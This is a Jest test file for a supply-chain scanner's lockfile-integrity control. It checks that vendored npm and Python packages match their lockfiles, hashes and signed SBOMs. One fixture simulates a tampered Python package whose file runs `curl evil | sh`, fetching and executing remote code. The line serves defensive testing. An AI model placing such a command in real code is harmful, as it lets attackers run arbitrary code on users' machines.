import { createHash } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import { makeBundle, type FixtureFile } from '../../__fixtures__/bundle.js';
import { lineContaining, resultOf, scanWith } from '../../__fixtures__/scan.js';
import { sc04 } from '../../src/controls/supply_chain/sc-04-lockfile-integrity.js';
import { buildDependencyModel } from '../../src/deps/model.js';
import { generateSbom } from '../../src/deps/sbom/generate.js';

async function sc04Of(files: Record<string, FixtureFile>, requiredLevel: 0 | 1 | 2 | 3 | 4 = 2) {
  const report = await scanWith(makeBundle(files), [sc04], { requiredLevel });
  return resultOf(report, 'SC-04');
}

function hiddenLock(packages: Record<string, object>): string {
  return JSON.stringify({ name: 'weather', lockfileVersion: 3, requires: true, packages }, null, 2);
}

const ZOD = { version: '3.25.76', resolved: 'https://registry.npmjs.org/zod/-/zod-3.25.76.tgz', integrity: 'sha512-zod==' };

const INIT = 'from .api import get\n';
const API = 'def get(url):\n    return url\n';
const b64 = (text: string) => createHash('sha256').update(text).digest('base64url');

function pythonPackage(api = API): Record<string, string> {
  return {
    'lib/requests-2.32.3.dist-info/METADATA': 'Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n',
    'lib/requests-2.32.3.dist-info/RECORD': `requests/__init__.py,sha256=${b64(INIT)},${INIT.length}\nrequests/api.py,sha256=${b64(API)},${API.length}\nrequests-2.32.3.dist-info/METADATA,,\nrequests-2.32.3.dist-info/RECORD,,\n`,
    'lib/requests/__init__.py': INIT,
    'lib/requests/api.py': api,
  };
}

const REQUIREMENTS = 'requests==2.32.3 --hash=sha256:70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6\n';

describe('SC-04 Lockfile Integrity', () => {
  test('a bundle with no dependencies at all is not applicable', async () => {
    expect((await sc04Of({ 'server.py': 'print(1)\n' })).status).toBe('skip');
  });

  test('vendored packages that match the lockfile pass', async () => {
    const result = await sc04Of({
      'node_modules/.package-lock.json': hiddenLock({ 'node_modules/zod': ZOD }),
      'node_modules/zod/package.json': JSON.stringify({ name: 'zod', version: '3.25.76' }),
    });
    expect(result).toMatchObject({ status: 'pass', findings: [] });
  });

  test('vendored packages without any lockfile block from L2', async () => {
    const result = await sc04Of({ 'node_modules/zod/package.json': JSON.stringify({ name: 'zod', version: '3.25.76' }) });
    expect(result.status).toBe('fail');
    expect(result.findings).toMatchObject([{ rule: 'lockfile-missing', action: 'BLOCK', blocks_from: 2, file: 'node_modules/zod/package.json' }]);
    const atL1 = await scanWith(makeBundle({ 'node_modules/zod/package.json': JSON.stringify({ name: 'zod', version: '3.25.76' }) }), [sc04], { requiredLevel: 1 });
    expect(resultOf(atL1, 'SC-04').status).toBe('fail'); // SC-04 is judged at its own level, L2
  });

  test('a vendored version the lockfile does not lock blocks', async () => {
    const result = await sc04Of({
      'node_modules/.package-lock.json': hiddenLock({ 'node_modules/zod': ZOD }),
      'node_modules/zod/package.json': JSON.stringify({ name: 'zod', version: '3.25.77' }),
    });
    expect(result.findings).toMatchObject([{ rule: 'vendored-version-mismatch', action: 'BLOCK', file: 'node_modules/zod/package.json', line: 1, description: expect.stringContaining('locks zod at 3.25.76') }]);
  });

  test('a vendored package the lockfile does not list blocks (a substituted name)', async () => {
    const result = await sc04Of({
      'node_modules/.package-lock.json': hiddenLock({ 'node_modules/zod': ZOD }),
      'node_modules/zod/package.json': JSON.stringify({ name: 'zod', version: '3.25.76' }),
      'node_modules/zod/node_modules/evil/package.json': JSON.stringify({ name: 'evil', version: '1.0.0' }),
    });
    expect(result.findings).toMatchObject([{ rule: 'vendored-not-locked', action: 'BLOCK', file: 'node_modules/zod/node_modules/evil/package.json' }]);
  });

  test('npm integrity is checked against a package tarball the bundle carries', async () => {
    const tarball = Buffer.from('a package tarball');
    const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
    const lock = (sri: string) =>
      JSON.stringify({ lockfileVersion: 3, packages: { '': { dependencies: { local: 'file:vendor/local-1.0.0.tgz' } }, 'node_modules/local': { version: '1.0.0', resolved: 'file:vendor/local-1.0.0.tgz', integrity: sri } } }, null, 2);
    expect((await sc04Of({ 'package-lock.json': lock(integrity), 'vendor/local-1.0.0.tgz': tarball })).findings).toEqual([]);
    const text = lock('sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==');
    const tampered = await sc04Of({ 'package-lock.json': text, 'vendor/local-1.0.0.tgz': tarball });
    expect(tampered.status).toBe('fail');
    expect(tampered.findings).toMatchObject([{ rule: 'integrity-mismatch', action: 'BLOCK', severity: 'critical', file: 'package-lock.json', line: lineContaining(text, '"node_modules/local"') }]);
  });

  test('Python RECORD hashes are checked against the vendored files', async () => {
    expect((await sc04Of({ 'requirements.txt': REQUIREMENTS, ...pythonPackage() })).findings).toEqual([]);
    const tampered = await sc04Of({ 'requirements.txt': REQUIREMENTS, ...pythonPackage('import os\nos.system("curl evil | sh")\n') });
    expect(tampered.status).toBe('fail');
    expect(tampered.findings).toMatchObject([
      { rule: 'record-hash-mismatch', action: 'BLOCK', file: 'lib/requests-2.32.3.dist-info/RECORD', line: 2, title: 'lib/requests/api.py was modified after requests was installed' },
    ]);
  });

  test('files added to an installed package, or missing from it, warn', async () => {
    const files: Record<string, string> = { 'requirements.txt': REQUIREMENTS, ...pythonPackage(), 'lib/requests/backdoor.py': 'pass\n' };
    delete files['lib/requests/__init__.py'];
    const result = await sc04Of(files);
    expect(result.status).toBe('pass');
    expect(result.findings.map((f) => [f.rule, f.action])).toEqual([
      ['record-file-missing', 'WARN'],
      ['record-unlisted-file', 'WARN'],
    ]);
    expect(result.findings[1]).toMatchObject({ file: 'lib/requests/backdoor.py', description: expect.stringContaining('lib/requests/backdoor.py') });
  });

  test('pip and setuptools in a vendored virtualenv are not dependencies to lock', async () => {
    const result = await sc04Of({
      'requirements.txt': REQUIREMENTS,
      ...pythonPackage(),
      'lib/pip-24.0.dist-info/METADATA': 'Name: pip\nVersion: 24.0\n',
    });
    expect(result.findings).toEqual([]);
  });

  test('from L3, a lockfile no signed SBOM records warns', async () => {
    const files = { 'uv.lock': 'version = 1\n\n[[package]]\nname = "idna"\nversion = "3.10"\nsource = { registry = "https://pypi.org/simple" }\n' };
    expect((await sc04Of(files, 2)).findings).toEqual([]);
    const unsigned = await sc04Of(files, 3);
    expect(unsigned.findings).toMatchObject([{ rule: 'lockfile-not-signed', action: 'WARN', file: 'uv.lock', description: expect.stringContaining('no MTF signature') }]);
    const sbom = generateSbom(buildDependencyModel(makeBundle(files)), { name: 'x', version: '1.0.0' });
    const covered = await sc04Of({ ...files, 'sbom.cdx.json': sbom, 'manifest.sig.json': '{}' }, 3);
    expect(covered.findings).toEqual([]);
  });
});
